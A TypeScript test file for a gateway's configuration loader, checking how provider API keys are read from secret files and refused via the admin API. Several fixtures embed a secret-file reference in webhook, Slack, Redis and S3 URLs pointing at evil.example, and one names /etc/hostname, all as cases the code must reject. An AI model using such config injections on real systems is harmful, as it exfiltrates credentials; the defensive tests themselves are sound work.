import { afterEach, beforeEach, describe, expect, it } from 'bun:test'
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type ConfigError, problemText } from '../check/problem.ts'
import { createConfigSource } from '../edit/source.ts'
import { placesMarked } from '../schema/schema-at.ts'
import { type LoadParts, loadConfig } from './load.ts'
import { readSecretFile } from './read-secret-file.ts'

const KEY = 'sk-from-a-file-0123456789'

let directory: string
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'gatehouse-secrets-'))
  mkdirSync(join(directory, 'secrets'))
  writeFileSync(join(directory, 'secrets/acme'), `${KEY}\n`)
})
afterEach(() => rmSync(directory, { recursive: true }))

const load = (text: string, parts: Partial<LoadParts> = {}) =>
  loadConfig({ environment: {}, cwd: directory, readFile: () => text, ...parts })

function problems(text: string, parts: Partial<LoadParts> = {}): string[] {
  try {
    load(text, parts)
    return []
  } catch (error) {
    return (error as ConfigError).problems.map(problemText)
  }
}

const provider = (text: string) => `providers: { acme: { base_url: "http://a.example/v1", ${text} } }`

describe('key_file', () => {
  it('gives a provider the key in a file beside the configuration', () => {
    const { acme } = load(provider('key_file: secrets/acme')).providers
    expect(acme).toMatchObject({ key: KEY, key_file: 'secrets/acme' })
    expect(load(provider(`key_file: ${join(directory, 'secrets/acme')}`)).providers.acme?.key).toBe(KEY)
  })

  it('gives one of several keys', () => {
    const { acme } = load(provider('keys: [{ key_file: secrets/acme, name: a }, { key: other }]')).providers
    expect(acme?.keys?.map(({ key }) => key)).toEqual([KEY, 'other'])
  })

  it.each([
    [
      'key_file: secrets/none',
      'providers.acme.key_file: found "secrets/none", which cannot be used: there is no such file',
    ],
    [
      'key_file: secrets/acme, key: a',
      'providers.acme.key_file: found "secrets/acme", which cannot be used: `key` stands beside it; remove one of the two',
    ],
    ['key_file: 5', 'providers.acme.key_file: found 5 (number), must be a string'],
    [
      'keys: [{ key_file: secrets }]',
      'providers.acme.keys[0].key_file: found "secrets", which cannot be used: it is not a regular file',
    ],
    ['keys: [{ name: a }]', 'providers.acme.keys[0]: must have `key` or `key_file`'],
    [
      'key_file: secrets/acme, keys: [{ key: a }]',
      'providers.acme.key_file: cannot stand beside `keys`; add it to the list',
    ],
  ])('is refused as %s', (text, problem) => {
    expect(problems(provider(text)).map((line) => line.replace(/^\S+ +/, ''))).toEqual([problem])
  })

  it('is refused where the file has two lines, without showing them', () => {
    writeFileSync(join(directory, 'secrets/two'), `${KEY}\nsecond\n`)
    const [problem] = problems(provider('key_file: secrets/two'))
    expect(problem).toContain('providers.acme.key_file: contains a space, a line break')
    expect(problem).not.toContain(KEY)
  })
})

describe('${file:path}', () => {
  it.each(placesMarked('secret').filter((place) => place.startsWith('providers.') && !place.includes('keys')))(
    'is filled in at %s',
    (place) => {
      const steps = place.replace('**', 'a').replace('*', 'acme').replace('*', 'x-a').split('.')
      const nested = steps.slice(2).reduceRight((inner, step) => `{ ${step}: ${inner} }`, '"a ${file:secrets/acme}"')
      const text = provider(nested.slice(1, -1)).replace('"a ', steps.at(-1) === 'key' ? '"' : '"a ')
      expect(JSON.stringify(load(text).providers)).toContain(KEY)
    },
  )

  it('may not stand where no secret does', () => {
    expect(problems('projects: { team: { labels: { a: "${file:secrets/acme}" } } }')).toEqual([
      'gatehouse.yaml:1:34  projects.team.labels.a: the file "secrets/acme" cannot be used: ' +
        'a file may stand only where a secret does, such as in a key or a header',
    ])
  })

  it('names a file that is missing', () => {
    expect(problems(provider('key: "${file:secrets/none}"'))[0]).toEndWith(
      'providers.acme.key: the file "secrets/none" cannot be used: there is no such file',
    )
  })

  it('is shown by its path and never by its content', () => {
    writeFileSync(join(directory, 'gatehouse.yaml'), provider('key: "${file:secrets/acme}"'))
    const source = createConfigSource({ environment: {}, cwd: directory })
    expect(source.show().find(({ path }) => path === 'providers.acme.key')?.value).toBe('${file:secrets/acme}')
    writeFileSync(join(directory, 'gatehouse.yaml'), provider('key_file: secrets/acme'))
    expect(source.show().find(({ path }) => path === 'providers.acme.key_file')?.value).toBe('secrets/acme')
    expect(JSON.stringify(source.show())).not.toContain(KEY)
  })
})

describe('a configuration by the admin API', () => {
  const IN_FORCE = provider('key_file: secrets/acme, headers: { x-a: "${file:secrets/acme}" }')
  const REFUSAL = 'the configuration file on disk does not name it here, and the admin API reads no other files'
  const setUp = () => {
    writeFileSync(join(directory, 'gatehouse.yaml'), IN_FORCE)
    writeFileSync(join(directory, 'secrets/other'), 'sk-other')
    return createConfigSource({ environment: {}, cwd: directory, isByApi: true })
  }
  const problemsOf = (work: () => unknown): string[] => {
    try {
      work()
      return []
    } catch (error) {
      return (error as ConfigError).problems.map(problemText)
    }
  }

  it('may name the files that the file on disk names', async () => {
    const source = setUp()
    await source.apply(`sandbox: false\n${IN_FORCE}`)
    expect(readFileSync(join(directory, 'gatehouse.yaml'), 'utf8')).toStartWith('sandbox: false')
  })

  it.each(['key_file: secrets/other', 'key: "${file:secrets/other}"', 'keys: [{ key_file: /etc/hostname }]'])(
    'may not name another file: %s',
    (text) => {
      const source = setUp()
      const [problem] = problemsOf(() => source.diff(provider(text)))
      expect(problem).toEndWith(REFUSAL)
    },
  )

  it.each([
    ['alerts.webhook.url', 'alerts: { webhook: { url: "https://evil.example/${file:secrets/acme}" } }'],
    ['alerts.slack.url', 'alerts: { slack: { url: "https://evil.example/${file:secrets/acme}" } }'],
    ['valkey.url', 'valkey: { url: "redis://:${file:secrets/acme}@evil.example" }'],
    [
      'outputs.s3.access_key_id',
      'outputs: { s3: { bucket: abc, endpoint: "https://evil.example", access_key_id: "${file:secrets/acme}", secret_access_key: abc } }',
    ],
  ])('may not send a file that a provider has elsewhere, by %s', (path, text) => {
    const source = setUp()
    const [problem] = problemsOf(() => source.diff(`${IN_FORCE}\n${text}`))
    expect(problem).toContain(`${path}: `)
  })

  it('may not give a file of one provider to another', () => {
    const source = setUp()
    const both = (text: string) =>
      IN_FORCE.replace(/ \}$/, `, other: { kind: chatcompat, base_url: "https://other.example/v1", ${text} } }`)
    writeFileSync(join(directory, 'gatehouse.yaml'), both('key: abc'))
    const texts = ['key_file: secrets/acme', 'key: abc, headers: { x-b: "${file:secrets/acme}" }']
    for (const text of texts) {
      const [problem] = problemsOf(() => source.diff(both(text)))
      expect(problem).toEndWith(REFUSAL)
    }
  })

  it('may not change a text with a file outside of providers, and may leave it as it is', () => {
    const source = setUp()
    const alerts = (host: string) =>
      `${IN_FORCE}\nalerts: { webhook: { url: "https://${host}/\${file:secrets/other}" } }\n`
    writeFileSync(join(directory, 'gatehouse.yaml'), alerts('hooks.example'))
    expect(problemsOf(() => source.diff(`${alerts('hooks.example')}sandbox: false`))).toEqual([])
    const [problem] = problemsOf(() => source.diff(alerts('evil.example')))
    expect(problem).toContain('alerts.webhook.url: may not take a file in a text that is new here')
  })

  it('does not tell whether another file exists', () => {
    const source = setUp()
    const texts = ['secrets/other', 'secrets/none'].map((file) => provider(`key_file: ${file}`))
    const [there, missing] = texts.map((text) => problemsOf(() => source.diff(text)))
    expect(there?.map((line) => line.replace('other', 'none'))).toEqual(missing ?? [])
  })
})

describe('readSecretFile', () => {
  const file = (content: string | Uint8Array): string => {
    const path = join(directory, 'secrets/one')
    writeFileSync(path, content)
    return path
  }

  it('drops the line breaks at the end and nothing else', () => {
    expect(readSecretFile(file(' a b\n\nc \r\n\n'))).toBe(' a b\n\nc ')
  })

  it('takes 64 KiB and no more', () => {
    expect(readSecretFile(file('a'.repeat(65_536)))).toHaveLength(65_536)
    expect(() => readSecretFile(file('a'.repeat(65_537)))).toThrow('it is larger than 65536 bytes')
  })

  it('refuses what holds no secret', () => {
    expect(() => readSecretFile(file('\n'))).toThrow('it is empty')
    expect(() => readSecretFile(file(new Uint8Array([0xff, 0xfe])))).toThrow('it is not UTF-8 text')
    execFileSync('mkfifo', [join(directory, 'secrets/pipe')])
    expect(() => readSecretFile(join(directory, 'secrets/pipe'))).toThrow('it is not a regular file')
    renameSync(join(directory, 'secrets/one'), join(directory, 'secrets/gone'))
    expect(() => readSecretFile(join(directory, 'secrets/one'))).toThrow('there is no such file')
  })
})
